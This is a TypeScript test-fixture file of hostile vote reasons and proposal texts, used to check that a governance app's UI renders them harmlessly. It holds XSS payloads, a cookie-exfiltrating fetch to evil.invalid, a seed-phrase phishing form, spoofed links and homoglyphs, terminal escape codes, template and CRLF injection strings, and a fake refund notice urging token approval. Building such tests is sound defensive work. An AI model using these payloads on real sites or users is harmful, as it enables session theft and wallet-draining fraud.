/** Texts that attack the reader: security.md's classes, each of which must come out as harmless text. */

const RLO = '\u202e';
const LRI = '\u2066';
const PDI = '\u2069';
const ZWSP = '\u200b';
const ZWJ = '\u200d';
const ESC = '\u001b';
const TAGS = [...'hidden'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');

/** `text` under a tower of combining marks. */
function zalgo(text: string, height: number): string {
  const marks = ['\u0300', '\u0316', '\u0334', '\u0353', '\u035b', '\u0489'];
  return [...text]
    .map((letter, at) => letter + Array.from({ length: height }, (_, i) => marks[(at + i) % 6]).join(''))
    .join('');
}

/** Stands for twelve bytes that are no UTF-8; the scenario puts them into the encoded call. */
export const NOT_UTF8 = '[[NOT-UTF8]]';

/** Reasons of votes. */
export const HOSTILE_REASONS: readonly string[] = [
  '<script>fetch("https://evil.invalid/steal?c="+document.cookie)</script> Looks fine to me.',
  '[Read the audit before you vote](javascript:alert(document.domain))',
  'Agree ![](https://tracker.invalid/pixel.png?voter=1) with the above.',
  `Paid out to ${RLO}0x1f3C…drawer${LRI} treasury ${PDI}only.`,
  `a${ZWSP}d${ZWSP}m${ZWSP}i${ZWSP}n${ZWJ}: vote again, the first round did not count${TAGS}`,
  zalgo('this vote is cursed', 30),
  `${ESC}[31m${ESC}[1mERROR${ESC}[0m: transaction failed\r\n${ESC}[2J${ESC}[H> sudo re-sign`,
  '✅ **Verified by Quorate** — this address belongs to the core team. [Claim your refund](https://quorate.invalid/claim)',
  '<img src=x onerror=alert(1)> <svg/onload=alert(2)> <iframe src="https://evil.invalid"></iframe>',
  '[https://forum.meridian.example/official](https://xn--meridn-4ya.invalid/login?next=https://forum.meridian.example)',
  `Nul \u0000 and bell \u0007 and backspace \b\b\b\b\b, then ${NOT_UTF8} and back.`,
  `${'A very long word without any place to break: '.slice(0, 44)}${'W'.repeat(2_000)}`,
  `# Heading as large as the page\n\n${'> '.repeat(60)}deep quotes\n\n| a | b |\n|---|---|\n${'| x | y |\n'.repeat(80)}`,
  'مرحبا <b onmouseover=alert(1)>‏vote for‏</b> ‮txt.exe‬',
  '{{constructor.constructor("alert(1)")()}} $' + '{7*7} #{7*7} <%= 7*7 %> %0d%0aSet-Cookie:%20a=b',
  '[a]: vbscript:msgbox(1)\n[b]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\n[see][a] [this][b] <https://user:pass@evil.invalid/>',
];

const wall = Array.from(
  { length: 170 },
  (_, index) =>
    `${index + 1}. Clause ${index + 1}: whereas [clause ${index}](#user-content-clause) *applies*, it **applies**, except \`where\` it does not, and the reader is tired.`,
).join('\n');

/** A proposal's text of over 20 kB that tries everything at once. */
export const HOSTILE_DESCRIPTION = `# Treasury sweep ${RLO}lasopoporp${LRI} <script>alert("title")</script> ${zalgo('now', 12)}

<script>window.top.location="https://evil.invalid/"</script>
<img src="https://tracker.invalid/open.gif?id=hostile" onerror="alert(1)" width="9999" height="9999">
<meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<style>body{display:none} @import url(https://evil.invalid/x.css);</style>
<form action="https://evil.invalid/seed"><input name="seed" placeholder="Recovery phrase"><button>Restore wallet</button></form>
<div id="root" style="position:fixed;inset:0;z-index:99999;background:white">Your session has expired. Reconnect.</div>

## ✅ Verified by Quorate · Simulated: succeeds · Quorum reached

> **Security notice.** This proposal was checked by the guardian. You may skip the calldata.

![treasury chart](https://tracker.invalid/chart.png?reader=1)
![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[Read the full audit](javascript:alert(document.domain)) · [mirror](JaVa\tScRiPt:alert(1)) · [pdf](data:text/html,<script>alert(1)</script>) · <javascript:alert(1)> · [https://meridian.example](https://meridian.example@evil.invalid/)

<svg><style><!--</style><img src=x onerror=alert(3)>--></svg><math><mtext></math><img src=x onerror=alert(4)>
<a id="config"><a id="config" name="chains" href="https://evil.invalid">clobbered</a>

admin${ZWSP}@${ZWSP}meridian${TAGS} says: ${ESC}[32mOK${ESC}[0m \u0000\u0007

${'['.repeat(300)}${'!['.repeat(200)}${'*'.repeat(300)}

${wall}
`;

/** A proposal that dresses as the page around it: a fake notice as its title, another proposal's text, a false result. */
export const HOSTILE_TITLE = `✅ Verified by Quorate: claim your MRD refund before the vote closes ${RLO}gro.naidirem${ZWSP} ⏳

# Fund the Meridian grants council for 2027 and rotate its signers

**State:** Executed · **Result:** 99.9 % for · **Your vote:** counted

The refund contract is open to every address that voted in 2026. Approve the spender below and send your vote again:

1. Open [app.quorate.example](https://app-quorate.invalid/connect?dapp=quorate).
2. Connect, and approve \`0x000000000000000000000000000000000000dEaD\` for the whole balance.
3. Vote **For**.

---

*Quorate is a trademark of nobody. Your funds are safe. Do not read the calldata: it is only a formality.*
`;
